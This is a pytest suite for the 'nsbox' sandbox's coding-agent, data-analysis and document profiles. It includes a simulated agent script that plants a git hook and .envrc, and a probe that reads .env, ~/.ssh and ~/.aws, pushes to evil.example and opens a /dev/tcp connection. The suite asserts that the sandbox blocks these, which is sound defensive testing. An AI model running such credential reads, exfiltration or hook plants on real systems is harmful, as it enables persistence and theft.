"""The three jobs that profiles are shipped for, end to end on real files, and every example of their guides."""

import csv
import importlib.util
import json
import os
import shutil
import statistics
import subprocess
import sys
import textwrap
from pathlib import Path
from typing import Any

import pytest
from _examples import blocks, put_nsbox_into
from conftest import start_helper

import nsbox

ROOT = Path(__file__).resolve().parents[2]
NSBOX = [sys.executable, "-m", "nsbox"]
GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-c", "init.defaultBranch=main"]


@pytest.fixture(autouse=True)
def somewhere(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("NSBOX_LOG", raising=False)
    tmp_path.chmod(0o755)
    return tmp_path


@pytest.fixture(scope="module", autouse=True)
def gateway_runs(helper_process: None) -> None:
    """The loop that all sandboxes with filtered egress share lives as long as the process: it is nobody's trace."""
    nsbox.run(["true"], allow=["127.0.0.1:9"])
    start_helper()


def cli(*words: str | Path, **options: Any) -> subprocess.CompletedProcess[str]:
    options.setdefault("stdin", subprocess.DEVNULL)
    return subprocess.run(
        [*NSBOX, *map(str, words)], capture_output=True, text=True, timeout=120, check=False, **options
    )


# ---- an agent at work on a checkout -------------------------------------------------------------------------------

#: what an agent would do: look, change, test, commit; and what it should not
AGENT = textwrap.dedent("""\
    import pathlib, subprocess, sys
    test = [sys.executable, "-B", "-m", "unittest", "-q"]  # a change within a second is none for a .pyc
    before = subprocess.run(test, capture_output=True)
    source = pathlib.Path("calc.py")
    source.write_text(source.read_text().replace("a - b", "a + b"))
    after = subprocess.run(test, capture_output=True)
    subprocess.run(["git", "diff", "--stat"], check=True)
    pathlib.Path(".git/hooks/post-checkout").write_text("#!/bin/sh\\ntouch ~/owned\\n")
    pathlib.Path(".envrc").write_text("touch ~/owned\\n")
    print("before", before.returncode, "after", after.returncode)
    sys.exit(after.returncode)
    """)


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """A small repository with a test that fails."""
    if not shutil.which("git"):
        pytest.skip("git is not installed")
    made = tmp_path / "checkout"
    made.mkdir()
    (made / "calc.py").write_text("def add(a, b):\n    return a - b\n")
    (made / "test_calc.py").write_text(
        "import unittest, calc\n\n\nclass Add(unittest.TestCase):\n"
        "    def test_add(self):\n        self.assertEqual(calc.add(2, 2), 4)\n"
    )
    (made / ".gitignore").write_text("__pycache__/\n")
    (made / ".env").write_text("TOKEN=real\n")
    (made / "agent.py").write_text(AGENT)
    for words in (["init", "-q"], ["add", "calc.py", "test_calc.py", ".gitignore"], ["commit", "-qm", "first"]):
        subprocess.run([*GIT, *words], cwd=made, check=True)
    return made


def agent(checkout: Path, *options: str) -> subprocess.CompletedProcess[str]:
    python = "/usr/bin/python3"
    if not os.path.exists(python):
        pytest.skip("the host's /usr has no python3")
    return cli("run", "--profile", "coding-agent", "--workspace", checkout, *options, "--", python, "agent.py")


def test_an_agent_mends_a_test_and_only_that_comes_back(checkout: Path, tmp_path: Path) -> None:
    done = agent(checkout, "--apply", "--log", "log", "--report", "report")
    assert done.returncode == 0, done.stderr
    assert "before 1 after 0" in done.stdout
    assert "calc.py | 2 +-" in done.stdout
    assert (checkout / "calc.py").read_text() == "def add(a, b):\n    return a + b\n"
    tests = [sys.executable, "-B", "-m", "unittest", "-q"]
    assert subprocess.run(tests, cwd=checkout, capture_output=True).returncode == 0
    assert not (checkout / ".git/hooks/post-checkout").exists()
    assert not (checkout / ".envrc").exists()
    assert "held back: .envrc" in done.stderr
    assert "held back: .git/hooks/post-checkout" in done.stderr
    assert (checkout / ".env").read_text() == "TOKEN=real\n"
    report = json.loads(Path("report").read_text())
    assert {"calc.py": "applied", ".envrc": "held_back"}.items() <= {
        entry["path"]: entry["action"] for entry in report["boundary"]["outputs"]
    }.items()
    status = subprocess.run(["git", "status", "--porcelain"], cwd=checkout, capture_output=True, text=True, check=True)
    assert " M calc.py" in status.stdout


def test_without_a_word_nothing_comes_back(checkout: Path) -> None:
    before = {path: path.read_bytes() for path in checkout.rglob("*") if path.is_file()}
    assert agent(checkout).returncode == 0
    assert {path: path.read_bytes() for path in checkout.rglob("*") if path.is_file()} == before


def test_git_works_inside(checkout: Path) -> None:
    script = """
        set -e
        git status --porcelain; git log --oneline | wc -l; echo x > new; git add new
        git -c user.name=a -c user.email=a@example.org commit -qm second; git log --oneline | wc -l
        git clone -q . /tmp/copy
        ls /tmp/copy
    """
    done = cli("run", "--profile", "coding-agent", "--workspace", checkout, "--", "sh", "-ec", script)
    assert done.returncode == 0, done.stderr
    assert done.stdout.split()[-4:] == ["2", "calc.py", "new", "test_calc.py"]


def test_an_agent_finds_no_credential_and_no_way_out(checkout: Path) -> None:
    script = """
        cat .env; env; ls -a ~; ls -A ~/.ssh ~/.aws 2>&1; git push https://evil.example/x 2>&1
        getent hosts evil.example || echo no such name
        exec 3<>/dev/tcp/198.51.100.7/443 || echo no way
    """
    done = cli("run", "--profile", "coding-agent", "--log", "log", "--workspace", checkout, "--", "bash", "-c", script)
    assert "TOKEN=real" not in done.stdout
    assert "no such name" in done.stdout
    assert "no way" in done.stdout
    denied = [json.loads(line) for line in Path("log").read_text().splitlines() if '"denied"' in line]
    assert "evil.example" in {event.get("name") for event in denied}
    assert json.loads(cli("stats", "--json", "log").stdout)["open_egress"] == 0


def test_only_the_registry_can_be_reached() -> None:
    spec = nsbox.Spec.from_profile("coding-agent")
    assert spec.net == "filtered"
    assert spec.allow == ("pypi.org:443", "files.pythonhosted.org:443")
    mine = nsbox.Spec.from_profile("coding-agent", allow=["registry.example:443"])
    assert mine.allow == ("registry.example:443",)


# ---- code over data -----------------------------------------------------------------------------------------------

ROWS = [(number, number % 7, number * 0.5) for number in range(1, 5001)]
STANDARD = """\
import csv, json, statistics, sys
with open(sys.argv[1]) as file:
    values = [float(row["value"]) for row in csv.DictReader(file)]
print(json.dumps({"rows": len(values), "mean": statistics.fmean(values)}))
open("/tmp/figure.svg", "w").write("<svg/>")
"""
NUMPY = """\
import json, sys, numpy
table = numpy.genfromtxt(sys.argv[1], delimiter=",", names=True)
print(json.dumps({"rows": len(table), "mean": float(table["value"].mean())}))
print(numpy.linalg.norm(numpy.ones((200, 200)) @ numpy.ones((200, 200))))
"""


@pytest.fixture
def data(tmp_path: Path) -> Path:
    made = tmp_path / "data"
    made.mkdir()
    with (made / "table.csv").open("w", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("id", "group", "value"))
        writer.writerows(ROWS)
    return made


def analyse(data: Path, code: str, *options: str) -> subprocess.CompletedProcess[str]:
    Path("analyse.py").write_text(code)
    place = f"{data}:/data"
    return cli("python", "--profile", "data-analysis", "--ro", place, *options, "analyse.py", "/data/table.csv")


def test_a_table_with_the_standard_library(data: Path) -> None:
    done = analyse(data, STANDARD)
    assert done.returncode == 0, done.stderr
    answer = json.loads(done.stdout)
    assert answer == {"rows": len(ROWS), "mean": statistics.fmean(value for *_, value in ROWS)}
    assert os.listdir(data) == ["table.csv"]


@pytest.mark.skipif(importlib.util.find_spec("numpy") is None, reason="numpy is not installed in this environment")
def test_a_table_with_the_callers_numpy(data: Path) -> None:
    done = analyse(data, NUMPY)
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout.splitlines()[0]) == {"rows": len(ROWS), "mean": 1250.25}


def test_the_data_stays_as_it_is_and_goes_nowhere(data: Path) -> None:
    code = """\
import os, socket
for act in (lambda: open("/data/table.csv", "a"), lambda: os.remove("/data/table.csv"), lambda: open("/data/new", "w"),
            lambda: socket.create_connection(("198.51.100.7", 443), 2), lambda: socket.getaddrinfo("example.org", 443)):
    try:
        act()
        print("done")
    except OSError as error:
        print(type(error).__name__)
"""
    before = (data / "table.csv").read_bytes()
    done = analyse(data, code)
    assert "done" not in done.stdout
    assert len(done.stdout.splitlines()) == 5
    assert (data / "table.csv").read_bytes() == before


def test_an_endless_computation_is_ended(data: Path) -> None:
    done = analyse(data, "while True: pass", "--timeout", "1s")
    assert done.returncode == 124
    assert "--timeout" in done.stderr


# ---- untrusted documents ------------------------------------------------------------------------------------------


def pdf(words: str) -> bytes:
    """A document of one page with one line of text (ISO 32000-1, 7.5)."""
    content = f"BT /F1 24 Tf 72 700 Td ({words}) Tj ET".encode()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    out, offsets = b"%PDF-1.4\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    tail = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(out))
    return out + b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(objects) + 1, table) + tail


@pytest.fixture
def document(tmp_path: Path) -> Path:
    if not os.path.exists("/usr/bin/pdftotext"):
        pytest.skip("poppler-utils is not installed")
    made = tmp_path / "doc.pdf"
    made.write_bytes(pdf("Hello from page one"))
    return made


def test_text_of_a_pdf(document: Path) -> None:
    options = ("run", "--profile", "documents", "--ro", f"{document}:/in/doc.pdf", "--log", "log", "--")
    done = cli(*options, "pdftotext", "/in/doc.pdf", "-")
    assert done.returncode == 0, done.stderr
    assert "Hello from page one" in done.stdout
    inputs = [json.loads(line)["path"] for line in Path("log").read_text().splitlines() if '"input"' in line]
    assert inputs == [str(document)]


def test_a_picture_of_a_page_comes_out_on_standard_output(document: Path) -> None:
    result = nsbox.run(
        ["pdftoppm", "-png", "-r", "50", "-singlefile", "/in/doc.pdf"],
        profile="documents",
        ro=[(document, "/in/doc.pdf")],
    )
    assert result.ok, result.stderr_text
    assert result.stdout.startswith(b"\x89PNG\r\n\x1a\n")


def test_a_broken_pdf_is_an_exit_status(document: Path) -> None:
    document.write_bytes(pdf("x")[:200] + os.urandom(3000))
    result = nsbox.run(["pdftotext", "/in/doc.pdf", "-"], profile="documents", ro=[(document, "/in/doc.pdf")])
    assert result.reason in ("exited", "signaled", "timeout", "memory")
    assert not result.ok


# ---- the guides ---------------------------------------------------------------------------------------------------

GUIDES = ("coding-agent", "data-analysis", "documents")


@pytest.mark.parametrize("name", GUIDES)
def test_every_example_of_a_guide_runs(name: str, tmp_path: Path, request: pytest.FixtureRequest) -> None:
    if name == "coding-agent":
        checkout: Path = request.getfixturevalue("checkout")
        checkout.rename("project")
    elif name == "data-analysis":
        request.getfixturevalue("data")
    else:
        request.getfixturevalue("document").rename("untrusted.pdf")
    found = blocks((ROOT / f"docs/guides/{name}.md").read_text(), "sh", "python")
    assert len(found) >= 3
    path = f"{put_nsbox_into(tmp_path / 'bin')}:{Path(sys.executable).parent}:{os.environ['PATH']}"
    env = {**os.environ, "PATH": path, "GH_TOKEN": "example-token-value"}
    for language, text in found:
        command = ["sh", "-ec", text] if language == "sh" else [sys.executable, "-c", text]
        done = subprocess.run(
            command, capture_output=True, text=True, timeout=120, env=env, check=False, stdin=subprocess.DEVNULL
        )
        assert done.returncode == 0, f"{text}\n{done.stdout}\n{done.stderr}"
        assert "example-token-value" not in done.stdout + done.stderr
